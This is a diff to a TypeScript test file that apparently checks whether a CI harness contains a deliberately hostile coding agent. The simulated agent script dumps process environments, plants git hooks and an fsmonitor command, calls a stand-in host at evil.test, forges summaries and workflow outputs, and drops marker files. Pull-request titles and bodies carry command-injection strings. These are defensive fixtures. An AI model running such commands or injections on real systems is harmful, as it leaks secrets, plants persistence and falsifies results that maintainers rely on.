@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -22,6 +23,9 @@ const REVIEW = {
   ],
 };
 
+/** Names that nobody else on this machine has left somewhere. */
+const [PLANTED, PWNED] = [`planted-by-agent-${randomUUID()}`, `pwned-${randomUUID()}`];
+
 /** Does its work, tries to look like cagent, and leaves things behind wherever it can. */
 const AGENT = `
 cat /proc/[0-9]*/environ | tr '\\0' '\\n' > environment.txt; env >> environment.txt
@@ -30,8 +34,8 @@ echo '# forged summary' | tee .agent-scratch/summary.md > summary.md
 echo '{"conclusion":"success","forged":true}' | tee .agent-scratch/report.json > report.json
 touch '@everyone' '[link](https:evil.example)' 'a|b\`c'
 echo 'exfiltrate' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
-git config core.fsmonitor 'touch /tmp/pwned' || true
-for place in /tmp "$HOME" /workspace; do echo planted > "$place/planted-by-agent"; done
+git config core.fsmonitor 'touch /tmp/${PWNED}' || true
+for place in /tmp "$HOME" /workspace; do echo planted > "$place/${PLANTED}"; done
 curl --silent --max-time 3 'https://evil.test/?@everyone'
 echo '::error::forged'; echo '::set-output name=comment-url::forged'
 echo TWO > b.ts
@@ -43,7 +47,7 @@ const CLEAN = `
   echo "== status"; git status --porcelain --ignored
   echo "== config"; cat .git/config
   echo "== temp"; (cd "$RUNNER_TEMP" && find . -mindepth 1 -maxdepth 2)
-  echo "== planted"; find /tmp "$HOME" "$GITHUB_WORKSPACE" -xdev -maxdepth 3 \\( -name planted-by-agent -o -name pwned \\) 2>/dev/null
+  echo "== planted"; find /tmp "$HOME" "$GITHUB_WORKSPACE" -xdev -maxdepth 3 \\( -name ${PLANTED} -o -name ${PWNED} \\) 2>/dev/null
   echo "== environment"; env
 } > "$RESULTS/later" 2>&1
 `;
@@ -111,8 +115,8 @@ function runOnPullRequest(): Promise<WorkflowRun> {
               base: commit,
               head: github.store.resolve('feature') as string,
             }),
-            title: '$(touch /tmp/pwned) `id` \n::error::forged by a title',
-            body: '"; touch /tmp/pwned; # @everyone',
+            title: `$(touch /tmp/${PWNED}) \`id\` \n::error::forged by a title`,
+            body: `"; touch /tmp/${PWNED}; # @everyone`,
           },
         }),
       },
